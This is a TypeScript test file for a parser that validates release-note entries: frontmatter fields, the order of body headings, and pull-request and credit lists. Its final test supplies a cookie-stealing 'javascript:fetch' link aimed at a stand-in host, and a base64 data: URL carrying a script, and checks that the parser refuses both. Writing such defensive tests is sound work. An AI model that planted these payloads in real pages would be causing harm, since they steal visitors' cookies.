import { expect, test } from '@rstest/core';
import { EntryError, parseEntry } from './parse-entry.ts';

const entry = (front: string, body = '\n## Fixes\n\n- Something works again.\n') => `---\n${front}\n---\n${body}`;
const problems = (text: string, file = 'entries/v3.28.17.mdx') => {
  try {
    parseEntry(text, file);
    return [];
  } catch (error) {
    if (!(error instanceof EntryError)) throw error;
    return error.problems;
  }
};
const OK =
  'version: 3.28.17\nkind: patch\ndate: 2025-10-15\nsummary: Claude Haiku 4.5 arrives on its launch day.\nimpact: opt-in\nhighlights: [Claude Haiku 4.5 on four providers]';

test('a valid patch entry is read with versions kept as text', () => {
  const e = parseEntry(entry(OK), 'entries/v3.28.17.mdx');
  expect(e).toMatchObject({ version: '3.28.17', kind: 'patch', date: '2025-10-15', impact: 'opt-in', bodyLine: 8 });
  const series = parseEntry(
    entry(
      'version: 3.10\nkind: series\nsummary: Summary of the whole series.\ncovers: [3.10.0, 3.10.1]\nhighlights: [Suggested responses]',
      '\nText.\n',
    ),
    'entries/v3.10.mdx',
  );
  expect(series.version).toBe('3.10');
  expect(series.covers).toEqual(['3.10.0', '3.10.1']);
});

test('each problem names its field and reason', () => {
  expect(problems(entry(OK.replace('kind: patch', 'kind: minor')))).toEqual(["kind: must be 'series' or 'patch'"]);
  expect(problems(entry(OK.replace('2025-10-15', '2025-13-40')))).toEqual(['date: is not a calendar date']);
  expect(problems(entry(OK.replace('2025-10-15', '15/10/2025')))).toEqual(['date: must be a date written YYYY-MM-DD']);
  expect(problems(entry(`${OK}\nauthor: me`))[0]).toMatch(/author/);
  expect(problems(entry(OK.replace(/summary: .*/, 'summary: Two sentences here. And another one here.')))).toEqual([
    'summary: must be a single sentence',
  ]);
  expect(problems(entry(OK), 'entries/v3.28.16.mdx')).toEqual(['version: 3.28.17 must live in a file named v3.28.17.mdx']);
  expect(
    problems(
      entry('version: 3.28\nkind: series\nsummary: Summary of the whole series.\nhighlights: [Task Sync with the cloud]'),
      'entries/v3.28.mdx',
    ),
  ).toEqual(['covers: is required for a series: list the patch versions it summarises']);
  expect(problems(entry(`${OK}\ncovers: [3.27.0]`))).toContain('covers.0: 3.27.0 is not part of the 3.28 series');
  expect(problems('no frontmatter')).toEqual(['frontmatter: missing (the file must start with a --- block)']);
});

test('the body of a patch uses the four groups in order; no title, no hand-made navigation', () => {
  expect(problems(entry(OK, '\n## Bugs\n\n- x\n'))).toEqual([
    "body, line 10: '## Bugs' is not a group; use one of: Features, Provider and model updates, Improvements, Fixes",
  ]);
  expect(problems(entry(OK, '\n## Fixes\n\n- x\n\n## Features\n\n- y\n'))[0]).toMatch(/line 14: '## Features' is out of order/);
  expect(problems(entry(OK, '\n# Title\n\n## Fixes\n\n- x\n'))[0]).toMatch(/line 10: no '#' heading/);
  expect(problems(entry(OK, '\n## Fixes\n\n- x\n\n## See also\n\n- y\n'))).toContain(
    "body, line 14: '## See also': links to other releases are generated, leave them out",
  );
  expect(problems(entry(OK, '\n'))).toEqual(['body: empty (describe the changes of the release)']);
  expect(problems(entry(OK, '\n## Fixes\n\n```md\n## Not a heading\n```\n'))).toEqual([]);
});

test('pull requests, issues and credits are typed: numbers without #, user names without @, no repeats', () => {
  const e = parseEntry(
    entry(`${OK}\npulls: [8406, 8377]\nissues: [6889]\ncredits: [daniel-lxs, PeterDaveHello]`),
    'entries/v3.28.17.mdx',
  );
  expect(e).toMatchObject({ pulls: ['8406', '8377'], issues: ['6889'], credits: ['daniel-lxs', 'PeterDaveHello'] });
  expect(problems(entry(`${OK}\npulls: ['#8406']`))).toEqual(['pulls.0: must be a number such as 8406 (without #)']);
  expect(problems(entry(`${OK}\ncredits: [@mrubens]`))[0]).toMatch(/^credits: not valid YAML|^frontmatter: not valid YAML/);
  expect(problems(entry(`${OK}\ncredits: ['@mrubens']`))).toEqual([
    'credits.0: must be a GitHub user name such as daniel-lxs (without @)',
  ]);
  expect(problems(entry(`${OK}\ncredits: [a, A]`))).toEqual(['credits.1: A is listed twice']);
  expect(problems(entry(`${OK}\npulls: [1]\nissues: [1]`))).toEqual(['issues.0: #1 is already listed under pulls']);
  expect(problems(entry(`${OK}\npulls: []`))).toEqual([
    'pulls: must list at least one pull request (leave the field out when there is none)',
  ]);
});

test('an entry says what updating asks of you: impact, up to three highlights, and actions where it changes behaviour', () => {
  const without = (field: string) => entry(OK.replace(new RegExp(`\\n${field}: .*`), ''));
  expect(problems(without('impact'))).toEqual([
    'impact: is required for a patch: one of none, opt-in, behaviour change, breaking',
  ]);
  expect(problems(without('highlights'))[0]).toMatch(/^highlights: /);
  expect(problems(entry(OK.replace('impact: opt-in', 'impact: major')))).toEqual([
    'impact: must be one of: none, opt-in, behaviour change, breaking',
  ]);
  expect(
    problems(entry(OK.replace(/highlights: .*/, 'highlights: [One thing here, Two things here, Three things, Four things]'))),
  ).toEqual(['highlights: must list at most three highlights']);
  // Limits count what a reader sees, so a long link address does not count; braces and tags only inside code.
  const link = `[Amazon Bedrock](/providers/bedrock${'-x'.repeat(80)})`;
  expect(problems(entry(OK.replace(/highlights: .*/, `highlights: ["Claude on ${link}"]`)))).toEqual([]);
  expect(problems(entry(OK.replace(/highlights: .*/, 'highlights: ["Rules in <mode> folders"]')))).toEqual([
    'highlights.0: must be one line of Markdown, with <, { and } only inside `code`',
  ]);
  expect(problems(entry(OK.replace(/highlights: .*/, 'highlights: ["Rules in `.roo/rules-<mode>/`"]')))).toEqual([]);
  const changed = OK.replace('impact: opt-in', 'impact: behaviour change');
  expect(problems(entry(changed))).toEqual(["actions: is required when impact is 'behaviour change': say what to do"]);
  expect(problems(entry(`${changed}\nactions: ["Checkpoints now run in every task unless you turn them off."]`))).toEqual([]);
  expect(problems(entry(`${changed}\nactions: ["Turn it off in the settings"]`))).toEqual([
    'actions.0: must end with a full stop',
  ]);
  expect(problems(entry(`${OK}\nactions: ["Nothing changes for you here."]`))).toEqual([
    "actions: is only for impact 'behaviour change' or 'breaking'; this entry's is 'opt-in'",
  ]);
  const series =
    'version: 3.28\nkind: series\nsummary: Summary of the whole series.\ncovers: [3.28.0]\nhighlights: [Task Sync with the cloud]';
  expect(problems(entry(`${series}\nimpact: none`), 'entries/v3.28.mdx')).toEqual([
    "impact: is not set on a series: it takes its patches' impacts and actions",
  ]);
});

test('a link that would run script or open a data: document is refused, naming the body line and the reason', () => {
  expect(problems(entry(OK, '\n## Fixes\n\n- Fixed [a crash](javascript:fetch(`//x/`+document.cookie)).\n'))).toEqual([
    'body, line 12, column 9: a link to a javascript: URL is not allowed in an entry (it runs script when followed); link to an https:// page',
  ]);
  expect(problems(entry(OK, '\n## Fixes\n\n- [Notes](data:text/html;base64,PHNjcmlwdD4=)\n'))[0]).toMatch(
    /^body, line 12, column 3: a link to a data: URL .*opens a document the site does not publish/,
  );
});
